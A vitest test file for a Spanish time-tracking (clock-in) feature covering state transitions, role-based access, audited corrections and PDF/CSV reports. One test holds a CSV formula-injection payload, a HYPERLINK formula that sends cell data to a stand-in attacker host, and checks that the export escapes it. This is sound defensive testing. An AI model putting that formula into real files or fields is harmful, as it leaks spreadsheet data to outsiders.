/** Check-in (registro de jornada): the server's clock, the state machine, own vs everyone's record, corrections, reports. */
import { describe, expect, it } from 'vitest';
import { eq } from 'drizzle-orm';
import { Code } from '../../src/shared/codes';
import { madridToday } from '../../src/shared/madrid';
import { time_entries } from '../../src/server/db/tables';
import { useTestApp, type TestApp } from '../support/app';
import { createUser, expectError, expectOk, filterQuery, jsonData, pdfText, tokenOf } from './helpers';
import { ROSA_VIDAL } from '../support/addresses';

let t: TestApp;
let admin: string;
let cliente: string;
let taller: string;
useTestApp((app, tokens) => { t = app; ({ admin, cliente, taller } = tokens); });

type Row = Record<string, any>;
const me = async (token: string) =>
  expectOk(await t.call('GET', '/api/auth/info', { token })).user as { id: number; first_name: string; last_name: string };
const checkIn = (token: string, kind: string, extra: Row = {}) =>
  t.call('POST', '/api/timeRecords/checkIn', { token, body: { kind, ...extra } });
const correct = (body: Row, token = admin) => t.call('POST', '/api/timeRecords/correct', { token, body });
const thisMonth = () => madridToday().slice(0, 7);

describe('checking in and out', () => {
  it('goes in → pause → out at the server\'s time, refusing impossible steps in Spanish', async () => {
    const worker = await createUser(t, admin, { roles: 3 });
    const token = await tokenOf(t, worker.username, worker.password);
    expect(expectOk(await t.call('GET', '/api/timeRecords/status', { token }))).toMatchObject({
      state: 'out',
      label: 'Sin fichar',
      actions: [{ kind: 'in', label: 'Fichar entrada' }],
    });

    const before = Date.now();
    // A time sent by the browser is ignored: the server takes its own.
    const started = expectOk(await checkIn(token, 'in', { at: '2020-01-01T08:00:00Z' }), 20001);
    const after = Date.now();
    expect(started).toMatchObject({
      state: 'in',
      label: 'Trabajando',
      actions: [
        { kind: 'out', label: 'Fichar salida' },
        { kind: 'pause_start', label: 'Iniciar pausa' },
      ],
    });
    expect(Date.parse(started.since)).toBeGreaterThanOrEqual(before - 1);
    expect(Date.parse(started.since)).toBeLessThanOrEqual(after + 1);

    expectError(await checkIn(token, 'in'), 409, Code.warning, 'Ya ha fichado la entrada');
    expectError(await checkIn(token, 'pause_end'), 409, Code.warning, 'No hay ninguna pausa iniciada');
    expect(expectOk(await checkIn(token, 'pause_start'), 20001)).toMatchObject({
      state: 'paused',
      actions: [{ kind: 'pause_end', label: 'Finalizar pausa' }],
    });
    expectError(await checkIn(token, 'pause_start'), 409, Code.warning, 'Ya está en pausa');
    expectError(await checkIn(token, 'out'), 409, Code.warning, 'Finalice la pausa antes de fichar la salida');
    expect((await checkIn(token, 'pause_end')).body.message).toBe('Pausa finalizada');
    const out = await checkIn(token, 'out');
    expect(out.body.message).toBe('Salida fichada');
    expect(out.body.data.state).toBe('out');
    expectError(await checkIn(token, 'out'), 409, Code.warning, 'Primero fiche la entrada');
    expectError(await checkIn(token, 'salir'), 400, Code.error, undefined, {
      kind: 'Elija entrada, inicio de pausa, fin de pausa o salida',
    });

    const record = expectOk(await t.call('GET', `/api/timeRecords/mine/${thisMonth()}`, { token }));
    const entries = record.days.flatMap((d: Row) => d.entries);
    expect(entries.map((e: Row) => e.kind)).toEqual(['in', 'pause_start', 'pause_end', 'out']);
    expect(entries.every((e: Row) => Date.parse(e.at) >= before - 1)).toBe(true);
    expect(record.worker).toMatchObject({ id: worker.id, username: worker.username });
    expect(record.worked).toMatch(/^0:0\d$/);

    // Every entry is an audit row of its own.
    const audits = expectOk(
      await t.call('GET', `/api/audit/page/1?${filterQuery({ resource: 'timeEntry', user_id: worker.id })}`, { token: admin }),
    );
    expect(audits.items.filter((a: Row) => a.user_id === worker.id).length).toBe(4);
  });

  it('one who clocks too often is refused in Spanish, and nothing is written', async () => {
    const worker = await createUser(t, admin, { roles: 3 });
    const token = await tokenOf(t, worker.username, worker.password);
    for (let i = 0; i < 3; i++) {
      expectOk(await checkIn(token, 'in'), 20001);
      expectOk(await checkIn(token, 'out'), 20001);
    }
    expectError(
      await checkIn(token, 'in'),
      409,
      Code.warning,
      'Ha fichado 6 veces en 10 minutos: espere unos minutos antes de volver a fichar',
    );
    expect(await t.ctx.db.select().from(time_entries).where(eq(time_entries.user_id, worker.id))).toHaveLength(6);
    expect(expectOk(await t.call('GET', '/api/timeRecords/status', { token }))).toMatchObject({ state: 'out' });
  });

  it('two clicks at once write one entry', async () => {
    const worker = await createUser(t, admin, { roles: 3 });
    const token = await tokenOf(t, worker.username, worker.password);
    const answers = await Promise.all([checkIn(token, 'in'), checkIn(token, 'in')]);
    expect(answers.map((a) => a.status).sort()).toEqual([200, 409]);
    expect(await t.ctx.db.select().from(time_entries).where(eq(time_entries.user_id, worker.id))).toHaveLength(1);
  });
});

describe('who reads and writes the record', () => {
  it('client members and anonymous callers are refused everywhere; the workshop reads only its own', async () => {
    const adminId = (await me(admin)).id;
    const tallerId = (await me(taller)).id;
    for (const [method, url] of [
      ['GET', '/api/timeRecords/status'],
      ['POST', '/api/timeRecords/checkIn'],
      ['GET', `/api/timeRecords/mine/${thisMonth()}`],
      ['GET', `/api/timeRecords/mine/${thisMonth()}/pdf`],
      ['GET', `/api/timeRecords/month/${thisMonth()}`],
      ['GET', `/api/timeRecords/worker/${tallerId}/${thisMonth()}`],
      ['GET', '/api/timeRecords/csv?month=2025-03'],
      ['POST', '/api/timeRecords/correct'],
      ['GET', '/api/timeRecords/workers'],
    ] as const) {
      expectError(await t.call(method, url, { token: cliente, body: method === 'POST' ? { kind: 'in' } : undefined }), 403, Code.error);
      expectError(await t.call(method, url, { body: method === 'POST' ? { kind: 'in' } : undefined }), 401, Code.invalidToken);
    }
    // The workshop cannot read another worker's record, everyone's totals, or correct.
    expectError(await t.call('GET', `/api/timeRecords/worker/${adminId}/${thisMonth()}`, { token: taller }), 403, Code.error);
    expectError(await t.call('GET', `/api/timeRecords/month/${thisMonth()}`, { token: taller }), 403, Code.error);
    expectError(
      await correct({ action: 'add', user_id: tallerId, kind: 'in', day: '2025-03-10', time: '08:00', reason: 'x' }, taller),
      403,
      Code.error,
    );
    // Nothing is edited or deleted in place: there is no generic resource for the record.
    expect((await t.call('POST', '/api/timeEntry/update', { token: admin, body: jsonData({ id: 1, kind: 'out' }) })).status).toBe(404);
    expect((await t.call('POST', '/api/timeEntry/delete', { token: admin, body: { id: 1 } })).status).toBe(404);

    // The demo holds the workshop's earlier days of the month; today is one more.
    const monthOf = async () => expectOk(await t.call('GET', `/api/timeRecords/month/${thisMonth()}`, { token: admin })) as Row[];
    const daysBefore = (await monthOf()).find((w) => w.worker.id === tallerId)?.days ?? 0;
    expectOk(await checkIn(taller, 'in'), 20001);
    const seen = expectOk(await t.call('GET', `/api/timeRecords/worker/${tallerId}/${thisMonth()}`, { token: admin }));
    expect(seen.days.flatMap((d: Row) => d.entries).map((e: Row) => e.kind)).toContain('in');
    const everyone = await monthOf();
    expect(everyone.map((w: Row) => w.worker.id)).toEqual(expect.arrayContaining([adminId, tallerId]));
    expect(everyone.find((w: Row) => w.worker.id === tallerId)!.days).toBe(daysBefore + 1);
    // Members are not workers: their records cannot be asked for.
    const clienteId = (await me(cliente)).id;
    expectError(await t.call('GET', `/api/timeRecords/worker/${clienteId}/${thisMonth()}`, { token: admin }), 400, Code.error, undefined, {
      user_id: 'Seleccione un trabajador',
    });
    expectError(await t.call('GET', `/api/timeRecords/worker/${tallerId}/2025-13`, { token: admin }), 400, Code.error, undefined, {
      month: 'Introduzca un mes válido (aaaa-mm)',
    });
    expectOk(await checkIn(taller, 'out'), 20001);
  });
});

describe('corrections and reports', () => {
  it('the CSV writes a worker named like a formula as text, never as a live formula', async () => {
    const attack = '=HYPERLINK("http://evil.example/?x="&A2;"Ver")';
    const worker = await createUser(t, admin, { roles: 3, first_name: attack, last_name: '-Ruiz' });
    for (const [kind, time] of [
      ['in', '08:00'],
      ['out', '16:00'],
    ])
      expectOk(await correct({ action: 'add', user_id: worker.id, kind, day: '2024-02-12', time, reason: 'Olvidó fichar' }), 20001);
    const csv = (await t.call('GET', '/api/timeRecords/csv?from=2024-02-12&to=2024-02-12', { token: admin })).response.body as string;
    const line = csv.split('\r\n').find((l) => l.includes('evil.example'));
    expect(line).toBe(
      `"'=HYPERLINK(""http://evil.example/?x=""&A2;""Ver"") -Ruiz";${worker.username};12/02/2024;08:00–16:00;;0:00;8:00;Corregido`,
    );
  });

  it('a correction is a new entry with its reason: the original stays, both show, totals follow, all audited', async () => {
    const worker = await createUser(t, admin, { roles: 3, first_name: 'Marta', last_name: 'Soler Ruiz' });
    const add = (kind: string, time: string, reason = 'Olvidó fichar') =>
      correct({ action: 'add', user_id: worker.id, kind, day: '2025-03-10', time, reason });
    for (const [kind, time] of [
      ['in', '08:00'],
      ['pause_start', '12:00'],
      ['pause_end', '12:30'],
      ['out', '16:00'],
    ])
      expectOk(await add(kind, time), 20001);
    const month = async () => expectOk(await t.call('GET', `/api/timeRecords/worker/${worker.id}/2025-03`, { token: admin }));
    const first = await month();
    expect(first.days).toHaveLength(1);
    expect(first.days[0]).toMatchObject({
      day: '2025-03-10',
      worked: '7:30',
      paused: '0:30',
      stretches: ['08:00–16:00'],
      pauses: ['12:00–12:30'],
      corrected: true,
    });
    expect(first.worked).toBe('7:30');

    const entryIn = first.days[0].entries.find((e: Row) => e.kind === 'in');
    // Wrong input: no reason, a time that is not one, a day in the future.
    expectError(
      await correct({ action: 'change', entry_id: entryIn.id, day: '2025-03-10', time: '07:00', reason: '  ' }),
      400,
      Code.error,
      undefined,
      { reason: 'Indique el motivo de la corrección' },
    );
    expectError(
      await correct({ action: 'change', entry_id: entryIn.id, day: '10/03/2025', time: '7h', reason: 'x' }),
      400,
      Code.error,
      undefined,
      { day: 'Introduzca una fecha válida', time: 'Introduzca una hora válida (hh:mm)' },
    );
    expectError(
      await correct({ action: 'change', entry_id: entryIn.id, day: '2999-01-01', time: '07:00', reason: 'x' }),
      400,
      Code.error,
      undefined,
      { time: 'La hora no puede ser posterior a ahora' },
    );
    expectError(await correct({ action: 'void', entry_id: 999999, reason: 'x' }), 404, Code.error, 'No existe ese fichaje');

    expect(
      expectOk(
        await correct({
          action: 'change',
          entry_id: entryIn.id,
          day: '2025-03-10',
          time: '07:00',
          reason: 'Llegó antes: lo confirma el encargado',
        }),
        20001,
      ).user_id,
    ).toBe(worker.id);
    const pauseStart = first.days[0].entries.find((e: Row) => e.kind === 'pause_start');
    expectOk(await correct({ action: 'void', entry_id: pauseStart.id, reason: 'No hizo pausa' }), 20001);

    const after = await month();
    expect(after.days[0]).toMatchObject({ worked: '9:00', paused: '0:00', stretches: ['07:00–16:00'] });
    const changed = after.days[0].entries.find((e: Row) => e.id === entryIn.id);
    expect(changed).toMatchObject({ time: '07:00', original: { label: 'Entrada', time: '08:00' }, added: true, reason: 'Olvidó fichar' });
    expect(changed.corrections).toEqual([
      expect.objectContaining({ time: '07:00', reason: 'Llegó antes: lo confirma el encargado', recorded_by: 'Ana Martínez Ruiz' }),
    ]);
    expect(after.days[0].entries.find((e: Row) => e.id === pauseStart.id)).toMatchObject({
      voided: true,
      corrections: [expect.objectContaining({ voids: true, reason: 'No hizo pausa' })],
    });

    // The original row is untouched; the correction is a row of its own naming it.
    const rows = await t.ctx.db.select().from(time_entries).where(eq(time_entries.user_id, worker.id));
    expect(rows).toHaveLength(6);
    const original = rows.find((r) => r.id === entryIn.id)!;
    expect(original.at.toISOString()).toBe('2025-03-10T07:00:00.000Z');
    expect(rows.find((r) => r.corrects_id === entryIn.id)).toMatchObject({
      reason: 'Llegó antes: lo confirma el encargado',
      voids: false,
      recorded_by: (await me(admin)).id,
    });
    const audits = expectOk(
      await t.call('GET', `/api/audit/page/1?per_page=100&${filterQuery({ resource: 'timeEntry' })}`, { token: admin }),
    );
    const correctionAudit = audits.items.find((a: Row) => a.after?.corrects_id === entryIn.id);
    expect(correctionAudit).toMatchObject({
      action: 'create',
      before: { kind: 'in', at: '2025-03-10T07:00:00.000Z' },
      after: { at: '2025-03-10T06:00:00.000Z' },
    });
    expect(audits.items.some((a: Row) => Number(a.record_id) === entryIn.id)).toBe(true);

    // The monthly PDF: the worker's name, the days, the corrections marked with their reason, the signatures.
    const pdf = await t.call('GET', `/api/timeRecords/worker/${worker.id}/2025-03/pdf`, { token: admin });
    expect(pdf.status).toBe(200);
    expect(pdf.response.headers['content-type']).toBe('application/pdf');
    expect(pdf.response.rawPayload.subarray(0, 5).toString()).toBe('%PDF-');
    const text = pdfText(pdf.response.rawPayload);
    for (const expected of [
      'Registro de jornada',
      'marzo de 2025',
      'Marta Soler Ruiz',
      '10/03/2025',
      '07:00 - 16:00',
      '9:00',
      'Corregido',
      'Motivo: Llegó antes',
      'Motivo: No hizo pausa',
      'Firma de la empresa',
      'Firma del trabajador',
    ]) {
      expect(text).toContain(expected);
    }

    // The CSV of everyone's month, and any span of days (records of any age can be exported).
    const csv = await t.call('GET', '/api/timeRecords/csv?month=2025-03', { token: admin });
    expect(csv.response.headers['content-type']).toMatch(/^text\/csv/);
    const lines = csv.response.body.split('\r\n');
    expect(lines[0]).toBe(
      '\uFEFFTrabajador;Usuario;Día;Entradas y salidas;Pausas;Tiempo de pausa (h:mm);Tiempo trabajado (h:mm);Observaciones',
    );
    expect(lines).toContain(`Marta Soler Ruiz;${worker.username};10/03/2025;07:00–16:00;;0:00;9:00;Corregido`);
    const span = await t.call('GET', '/api/timeRecords/csv?from=2021-01-01&to=2025-03-10', { token: admin });
    expect(span.response.body).toContain(`Marta Soler Ruiz;${worker.username};10/03/2025`);
    expect((await t.call('GET', '/api/timeRecords/csv?from=2025-03-11&to=2025-12-31', { token: admin })).response.body).not.toContain(
      'Marta Soler Ruiz',
    );
    expectError(await t.call('GET', '/api/timeRecords/csv?from=2025-03-11&to=2025-03-01', { token: admin }), 400, Code.error, undefined, {
      to: 'La fecha final no puede ser anterior a la inicial',
    });

    // The worker reads its own record with the corrections and downloads its own report.
    const own = await tokenOf(t, worker.username, worker.password);
    expect(expectOk(await t.call('GET', '/api/timeRecords/mine/2025-03', { token: own })).days[0].worked).toBe('9:00');
    expect(pdfText((await t.call('GET', '/api/timeRecords/mine/2025-03/pdf', { token: own })).response.rawPayload)).toContain(
      'Marta Soler Ruiz',
    );
  });

  it('a day with more entries than a page holds prints on as many pages as it needs', async () => {
    const worker = await createUser(t, admin, { roles: 3, first_name: 'Pilar', last_name: 'Muchas Veces' });
    // 100 in/out pairs on 15 April 2025 from 08:00 Madrid (06:00 UTC), a minute each: 200 entries.
    const start = Date.parse('2025-04-15T06:00:00Z');
    await t.ctx.db.insert(time_entries).values(Array.from({ length: 200 }, (_, i) =>
      ({ user_id: worker.id, kind: i % 2 ? 'out' : 'in', at: new Date(start + i * 60_000), recorded_by: worker.id })));
    const own = await tokenOf(t, worker.username, worker.password);
    for (const [url, token] of [[`/api/timeRecords/worker/${worker.id}/2025-04/pdf`, admin], ['/api/timeRecords/mine/2025-04/pdf', own]]) {
      const pdf = await t.call('GET', url, { token });
      expect(pdf.status, url).toBe(200);
      const text = pdfText(pdf.response.rawPayload);
      // The first and the last stretch, the day going on over the page, the totals and the signatures.
      for (const expected of [
        'Pilar Muchas Veces',
        '08:00 - 08:01',
        '11:18 - 11:19',
        '(sigue)',
        'Total del mes: 1:40',
        'Firma del trabajador',
      ]) {
        expect(text, url).toContain(expected);
      }
      expect(pdf.response.rawPayload.toString('latin1').match(/\/Type \/Page\b/g)!.length, url).toBeGreaterThan(1);
    }
  });

  it('only workers get entries added', async () => {
    const clienteId = (await me(cliente)).id;
    expectError(
      await correct({ action: 'add', user_id: clienteId, kind: 'in', day: '2025-03-10', time: '08:00', reason: 'x' }),
      400,
      Code.error,
      undefined,
      { user_id: 'Seleccione un trabajador' },
    );
    expectError(await correct({ action: 'rewrite', entry_id: 1, reason: 'x' }), 400, Code.error, undefined, {
      action: 'Elija si corrige, anula o añade un fichaje',
    });
  });
});

describe('the workshop beyond check-in', () => {
  it('reads the task calendar but does not plan it, and marks traceability steps', async () => {
    expectOk(await t.call('GET', '/api/task/all', { token: taller }));
    expectError(
      await t.call('POST', '/api/task/create', {
        token: taller,
        body: jsonData({ title: 'X', start: '2027-01-10 09:00:00', end: '2027-01-10 10:00:00' }),
      }),
      403,
      Code.error,
    );
    expectError(await t.call('POST', '/api/task/delete', { token: taller, body: { id: 1 } }), 403, Code.error);
    expectError(await t.call('POST', '/api/order/getFilteredOrders', { token: taller, body: {} }), 403, Code.error);

    const member = await createUser(t, admin, { client_id: 1 });
    const token = await tokenOf(t, member.username, member.password);
    const cart = expectOk(
      await t.call('POST', '/api/orderItem/create', { token, body: { item_property_value_id: 2, quantity: 1 } }),
      20001,
    );
    const order = expectOk(
      await t.call('POST', '/api/order/finishOrderCartAndChangeOrderReviewStatus', {
        token,
        body: {
          order_id: cart.id,
          customer_info: 'Taller',
          ...ROSA_VIDAL,
          delivery_date: madridToday(),
        },
      }),
      20001,
    );
    const [item] = expectOk(await t.call('GET', `/api/order/getById/${order.id}`, { token: admin })).order_items;
    const marked = expectOk(await t.call('POST', '/api/traceability/markNextStep', { token: taller, body: { code: item.barcode } }), 20001);
    expect(marked.steps.filter((s: Row) => s.done_at).map((s: Row) => s.done_by)).toEqual(['Jorge']);
  });
});
